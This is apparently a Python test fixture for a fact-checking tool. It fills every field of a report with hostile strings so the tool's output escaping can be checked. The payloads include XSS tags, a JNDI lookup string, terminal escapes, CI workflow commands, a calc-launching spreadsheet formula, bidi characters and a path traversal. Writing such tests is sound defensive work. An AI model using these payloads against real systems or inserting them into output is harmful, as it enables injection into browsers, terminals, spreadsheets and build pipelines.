"""Reports with a payload in every field that a story, a record, a pack or a waiver can fill."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace

from checker.model.article import Span
from checker.model.claims import OfficeHoldingClaim
from checker.model.facts import Entity, Fact
from checker.model.findings import Diagnostic, FactEvidence, Finding, Repair, Report, SpanEvidence, SumEvidence, Unchecked
from checker.model.run import Knowledge, Pack, RuleCard, Run
from checker.model.when import Date

# Terminal escapes, a bidi override, CI commands, HTML and formulas, in every field that a story or a record can fill.
EVIL = "\x1b[31m\x07\u202e::error::\r\n</script><b onload=x>%0A=cmd|' /C calc'!A0\u200b\ud83d"
PAYLOADS: Mapping[str, str] = {
    "everything": EVIL,
    "script": "<script>alert(1)</script><img src=http://203.0.113.1/x onerror=alert(2)>",
    "end of an attribute": "\"'><svg onload=alert(3)><a href='javascript:alert(4)' autofocus onfocus=alert(5) style=x>",
    "end of a style": "</style></title></textarea><style>*{display:none}</style>",
    "end of a comment or section": "]]><!-- --><![CDATA[ ]]> <?xml version='1.0'?> <!DOCTYPE a [<!ENTITY b 'c'>]> &b; &lt;",
    "a template": "{{ 7 * 7 }}{% for x in y %}{# gone #}${jndi:ldap://203.0.113.1/}",
    "a terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\x90\x9c\x08\x0b\x0c\x00\x7f\x85 \x1b]8;;http://203.0.113.1\x1b\\x",
    "a workflow command": "::error file=a,line=1::owned",
    "a workflow command in a line of its own": "one\n::add-mask::a\n  ::set-output name=a::b\r::stop-commands::x\r\n##[error]owned",
    "an older workflow command": "x ##[add-mask]a ##vso[task.setvariable variable=a]b ##teamcity[buildStop comment='x']",
    "written-out line ends": "%0A::error::x%0D%25%250A %3A%2C",
    "a formula": "=cmd|' /C calc'!A0\t+1+1\t@SUM(1)\t-2",
    "bidi controls": "\u202eabc\u202c \u2066x\u2069 \u200f\u061c\u200e",
    "line separators": "one\u2028two\u2029three\x85four",
    "half a character": "\ud83d x \udc00 \udfff",
    "invisible characters": "a\u200bb\u2060c\ufeffd\xade\U000e0041f\u180e",
    "Markdown": "# h\n- l\n1. n\n> q\n```x\n| a | b |\n|---|---|\n**b** _i_ ~~s~~ [l](javascript:alert(1)) ![i](http://203.0.113.1/i.png)",
    "Markdown that goes on": "`code` ``` \\ <!-- </details> --> <http://203.0.113.1> @everyone #12 [x]: http://203.0.113.1 'x' ====\n----",
    "JSON": '", "severity": null}], "x": {"y": "\\u0000 \\" \\\\',
    "a path": "../../etc/passwd\\..\\x?a#b%2e%2e:1:2,line=3",
}


def hostile(payload: str) -> tuple[Run, Report]:
    """A run and a report that say nothing but the payload."""
    claim = OfficeHoldingClaim(
        id="c1", span=Span(0, 1), text=payload, person=Entity(payload, payload, payload), office=Entity(payload)
    )
    by_hand = replace(claim, id=payload, span=None, text="", section="body", jurisdiction=Entity(payload))
    fact = Fact(
        subject=payload,
        subject_name=payload,
        predicate=payload,
        office=payload,
        object=payload,
        object_name=payload,
        source=payload,
        url=payload,
        licence=payload,
        valid_from=Date.year(2000),
    )
    finding = Finding(
        rule="office/holder",
        claims=("c1",),
        verdict="refuted",
        severity="kill",
        message=payload,
        spans=(Span(0, 1),),
        title_spans=(Span(0, 1),),
        evidence=(
            SpanEvidence("c1", Span(0, 1), payload),
            SpanEvidence(payload, None, ""),
            FactEvidence(fact),
            SumEvidence((payload,), payload, payload),
        ),
        repairs=(
            Repair(payload, Span(0, 1), payload, payload),
            Repair(payload, None, None),
            Repair(payload, None, None, payload),
        ),
        fingerprint=payload,
    )
    report = Report(
        article=payload,
        text=f"{payload}\n{payload}",
        title=payload,
        as_of_from=payload,
        as_of=Date.year(2001),
        claims=(claim, by_hand),
        findings=(
            finding,
            replace(finding, title_spans=(), fingerprint=""),
            replace(finding, rule=payload),
            replace(finding, waived=payload),
            replace(finding, verdict="conflicting-evidence", severity=None),
            replace(finding, verdict="supported", severity=None),
            replace(finding, verdict="not-enough-evidence", severity=None),
        ),
        unchecked=(Unchecked("c1", payload), Unchecked(payload, payload)),
        coverage={"claims": 2, "refuted": 1, "unchecked": 1},
        diagnostics=(Diagnostic(payload, payload, Span(0, 1)),),
        errors=(payload,),
    )
    rules = {
        name: RuleCard(id=name, summary=payload, why=payload, severity="kill", kind=payload, references=(payload,))
        for name in ("office/holder", payload)
    }
    run = Run(
        version="0.1.0",
        packs=(Pack(payload, payload, 1, (payload,)),),
        knowledge=Knowledge("2c91d0aa55e1f3", 1, None, (payload,)),
        rules=rules,
        articles=1,
        selected=payload,
    )
    return run, report
